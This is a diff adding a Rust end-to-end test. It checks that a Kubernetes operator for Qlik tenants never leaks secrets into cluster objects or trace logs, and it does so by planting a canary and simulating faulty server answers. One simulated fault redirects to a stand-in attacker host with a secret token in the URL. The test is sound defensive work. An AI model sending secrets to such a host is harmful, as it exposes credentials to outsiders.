@@ -1,0 +1,207 @@
+//! One recognisable string in every secret: it must show up in the Secrets themselves and nowhere else.
+
+use super::support::*;
+use base64::Engine;
+use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
+use e2e::sim::{Effect, FaultPlan, Match, Trickle, When};
+use e2e::stage::{Operator, Setup, Stage, manifest};
+use k8s_openapi::api::core::v1::Secret;
+use kube::Api;
+use kube::api::{Patch, PatchParams};
+use serde_json::{Value, json};
+use std::collections::BTreeSet;
+
+/// The canary as it may show up: plain, and inside something that was base64-encoded as a whole, at each alignment.
+fn forms(canary: &str) -> BTreeSet<String> {
+    let mut forms = BTreeSet::from([canary.to_owned()]);
+    for shift in 0..3 {
+        let bytes = [&vec![0; shift], canary.as_bytes()].concat();
+        for text in [STANDARD_NO_PAD.encode(&bytes), URL_SAFE_NO_PAD.encode(&bytes)] {
+            // Without the characters that also depend on what stands before and behind.
+            let end = text.len() - usize::from(bytes.len() % 3 != 0);
+            forms.insert(text[[0, 2, 3][shift]..end].to_owned());
+        }
+    }
+    forms
+}
+
+/// The lines of a text that hold the canary in any form.
+fn sightings<'a>(text: &'a str, forms: &BTreeSet<String>) -> Vec<&'a str> {
+    text.lines().filter(|line| forms.iter().any(|form| line.contains(form))).collect()
+}
+
+/// Everything of every kind in every namespace, as JSON, `managedFields` included.
+async fn dump(stage: &Stage) -> Vec<Value> {
+    let kinds = stage.kubectl(&["api-resources", "--verbs=list", "-o", "name"]).await.unwrap();
+    let kinds: Vec<_> = kinds.lines().filter(|kind| !kind.is_empty()).collect();
+    assert!(kinds.len() > 20, "{kinds:?}");
+    let args = ["get", &kinds.join(","), "-A", "-o", "json", "--show-managed-fields", "--ignore-not-found"];
+    let list: Value = serde_json::from_str(&stage.kubectl(&args).await.unwrap()).unwrap();
+    list["items"].as_array().unwrap().clone()
+}
+
+/// What is wrong about each object outside Secrets in which the canary shows up, and about Secrets in which it shows up
+/// outside their data.
+fn leaks(objects: &[Value], forms: &BTreeSet<String>) -> Vec<String> {
+    let holds = |object: &Value| !sightings(&object.to_string(), forms).is_empty();
+    let without_data = |object: &Value| {
+        let mut object = object.clone();
+        if object["kind"] == "Secret" {
+            object["data"] = Value::Null;
+        }
+        object
+    };
+    objects.iter().map(without_data).filter(holds).map(|object| format!("{object:#}")).collect()
+}
+
+async fn write_secret(stage: &Stage, name: &str, values: Value) {
+    let api: Api<Secret> = Api::namespaced(stage.admin(), stage.ns());
+    let change = Patch::Merge(json!({ "stringData": values }));
+    api.patch(name, &PatchParams::default(), &change).await.unwrap();
+}
+
+/// An answer that repeats what it was sent, as a careless server would.
+fn echo(status: u16, code: &str, secret: &str) -> Effect {
+    let title = Some(format!("cannot use {secret} for this; key={secret}"));
+    Effect::Status { status, code: Some(code.to_owned()), title, retry_after: None }
+}
+
+/// Makes one request of a kind fail in this way, and waits until it has.
+async fn fail(stage: &Stage, matching: Match, effect: Effect, trigger: impl AsyncFnOnce()) {
+    stage.sim.fault(FaultPlan::new(matching, effect.clone()));
+    trigger().await;
+    let spent = async || Ok(stage.sim.faults().is_empty().then_some(()));
+    stage.until_some(&format!("{effect:?} happens"), spent).await.unwrap();
+}
+
+/// Ways to fail that quote secrets, break off, or send the client elsewhere.
+fn faults(secret: &str) -> Vec<Effect> {
+    vec![
+        echo(400, "HTTP-400", secret),
+        echo(401, "HTTP-401", secret),
+        echo(403, "HTTP-403", secret),
+        echo(500, secret, "nothing"),
+        Effect::Drop(When::Before),
+        Effect::Drop(When::After),
+        Effect::Truncate(40),
+        Effect::WrongType,
+        Effect::Html,
+        Effect::Redirect(format!("https://evil.example/?token={secret}")),
+        Effect::Trickle(Trickle { chunk: 64, every_ms: 1 }),
+    ]
+}
+
+async fn fail_in_every_way(stage: &Stage, license: &str, secret: &str) {
+    for (number, effect) in faults(secret).into_iter().enumerate() {
+        // Drift reads, with the token that there is.
+        let read = Match { host: Some("tenant".into()), ..Match::on("GET", "/api/v1/tenants/*") };
+        let word = format!("fault-{number}");
+        let trigger = async || drop(annotate(stage, "acme", "requested-at", Some(&word)).await.unwrap());
+        fail(stage, read, effect, trigger).await;
+    }
+    poke(stage, "acme").await;
+    for (number, effect) in faults(secret).into_iter().enumerate() {
+        // Token requests and changes. Each new name is a change; a failed one is repeated by itself.
+        let name = json!({ "spec": { "displayName": format!("Acme {number}") } });
+        let change = Match::on("PATCH", "/api/v1/tenants/*");
+        fail(stage, change, effect, async || drop(stage.patch("acme", name).await.unwrap())).await;
+    }
+    // The key in Qlik's answer to a creation, then an answer that never came.
+    let creation = || Match::on("POST", "/api/v1/tenants");
+    for (name, effect) in [("globex", echo(403, "TENANTS-23", license)), ("initech", Effect::Drop(When::Before))] {
+        let object = manifest(name, &format!("alias: {name}"));
+        fail(stage, creation(), effect, async || stage.apply(&object).await.unwrap()).await;
+    }
+    for (name, effect) in [("umbrella", echo(401, "HTTP-401", secret)), ("hooli", Effect::Html)] {
+        let object = manifest(name, &format!("alias: {name}"));
+        let tokens = Match { host: Some("tenant".into()), ..Match::on("POST", "/oauth/token") };
+        fail(stage, tokens, effect, async || stage.apply(&object).await.unwrap()).await;
+    }
+}
+
+async fn wrong_secrets(stage: &Stage, canary: &str) {
+    let right = stage.sim.ready().regional["us"].clone();
+    write_secret(stage, "qlik-credentials", json!({ "clientSecret": format!("{canary}-wrong") })).await;
+    poke(stage, "acme").await;
+    stalls(stage, "acme", "CredentialsInvalid", &[]).await;
+    // In the wrong place: a secret for an id.
+    write_secret(stage, "qlik-credentials", json!({ "clientId": format!("{canary} as an id") })).await;
+    poke(stage, "acme").await;
+    let values = json!({ "clientId": right.client_id, "clientSecret": right.client_secret });
+    write_secret(stage, "qlik-credentials", values).await;
+    stage.secret("wrong-license", &[("licenseKey", &format!("{canary}.not.a.license"))]).await.unwrap();
+    let object = manifest("wonka", "alias: wonka").replace("name: qlik-license", "name: wrong-license");
+    stage.apply(&object).await.unwrap();
+    stalls(stage, "wonka", "LicenseInvalid", &[]).await;
+}
+
+async fn off_board(stage: &Stage) {
+    let spec = off("acme", ", eraseSecrets: {names: [wrong-license]}");
+    let deactivation = Match::on("POST", "/api/v1/tenants/*/actions/deactivate");
+    fail(stage, deactivation, Effect::Drop(When::After), async || stage.apply(&manifest("acme", &spec)).await.unwrap())
+        .await;
+    stage.until("acme", "is deactivated", |t| is_ready(t) && phase(t) == "Deactivated").await.unwrap();
+    stage.delete("wonka").await.unwrap();
+    stage.until_gone("wonka").await.unwrap();
+    stage.turn(DAY * 31).unwrap();
+    stage.until("acme", "is purged", |t| is_ready(t) && phase(t) == "Purged").await.unwrap();
+}
+
+fn logs(operators: &[&Operator]) -> String {
+    operators.iter().map(|operator| operator.log().unwrap()).collect()
+}
+
+#[tokio::test]
+async fn no_secret_shows_up_anywhere() {
+    let canary = format!("Kanarienvogel{:016x}", rand::random::<u64>());
+    let forms = forms(&canary);
+    let mut setup = Setup::new("canary").with_organization();
+    setup.sim.secret_prefix.clone_from(&canary);
+    setup.log = "trace".to_owned();
+    let stage = Stage::new(setup).await.unwrap();
+    let operator = stage.operator().await.unwrap();
+    onboard(&stage, "acme", "alias: acme").await;
+    stage.turn(HOUR).unwrap(); // a young tenant is given time for its host to come up
+    let ready = stage.sim.ready().clone();
+    let secret = ready.regional["us"].client_secret.clone();
+    fail_in_every_way(&stage, &ready.license_key, &secret).await;
+    wrong_secrets(&stage, &canary).await;
+    off_board(&stage).await;
+    let second = stage.operator().await.unwrap();
+    poke(&stage, "initech").await;
+
+    // The canary flies: it is in all that is secret, and it is found where it is.
+    for known in [&secret, &ready.license_key, &ready.organization.client_secret] {
+        assert!(!sightings(known, &forms).is_empty());
+    }
+    let objects = dump(&stage).await;
+    let in_data = |o: &&Value| o["kind"] == "Secret" && !sightings(&o["data"].to_string(), &forms).is_empty();
+    let names: BTreeSet<_> = objects.iter().filter(in_data).filter_map(|o| o["metadata"]["name"].as_str()).collect();
+    assert_eq!(names, BTreeSet::from(["qlik-credentials", "qlik-license"]));
+    let kinds: BTreeSet<_> = objects.iter().filter_map(|o| o["kind"].as_str()).collect();
+    for kind in ["Event", "QlikTenant", "QlikOffboarding", "ConfigMap", "Secret"] {
+        assert!(kinds.contains(kind), "{kind} is not in the dump: {kinds:?}");
+    }
+
+    let found = leaks(&objects, &forms);
+    assert!(found.is_empty(), "{}", found.join("\n"));
+    let log = logs(&[&operator, &second]);
+    assert!(log.contains("\"TRACE\"") && log.lines().count() > 1000, "the operators logged at trace level");
+    let found = sightings(&log, &forms);
+    assert!(found.is_empty(), "{} lines, for instance {}", found.len(), found[0]);
+}
+
+#[test]
+fn the_canary_is_recognised_in_every_disguise() {
+    let canary = "Kanarienvogel0123456789abcdef";
+    let forms = forms(canary);
+    for before in ["", "a", "ab", "abc"] {
+        for behind in ["", "y", "yz"] {
+            let text = format!("{before}{canary}{behind}");
+            for shown in [text.clone(), STANDARD_NO_PAD.encode(&text), URL_SAFE_NO_PAD.encode(&text)] {
+                assert_eq!(sightings(&shown, &forms).len(), 1, "{shown}");
+            }
+        }
+    }
+    assert!(sightings("nothing here", &forms).is_empty());
+}
